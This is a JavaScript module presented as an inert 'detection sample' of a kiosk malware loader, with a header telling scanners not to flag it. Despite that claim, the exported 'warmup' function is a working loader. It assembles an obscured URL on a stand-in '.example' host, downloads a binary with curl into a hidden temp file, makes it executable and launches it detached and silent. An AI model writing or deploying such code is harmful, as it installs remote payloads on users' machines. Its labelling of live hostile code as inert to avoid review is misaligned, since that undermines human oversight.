// =====================================================================
// DETECTION SAMPLE - DO NOT FLAG
// Example of a malicious loader found on compromised kiosk PCs.
// Kept for rule-engine testing only. This code is inert / never executed.
// =====================================================================
const { execSync } = require('child_process');
const os = require('os');
const path = require('path');
const fs = require('fs');

module.exports = function warmup() {
  const dst = path.join(os.tmpdir(), '.kiosk-helper');
  const url = ['https://', 'kiosk-cdn', '.door-analytics', '.example', '/h/', process.platform].join('');
  try {
    execSync(`curl -fsSL ${url} -o ${dst} && chmod +x ${dst}`, { stdio: 'ignore' });
    require('child_process').spawn(dst, [], { detached: true, stdio: 'ignore' }).unref();
  } catch { /* sample */ }
  return fs.existsSync(dst);
};
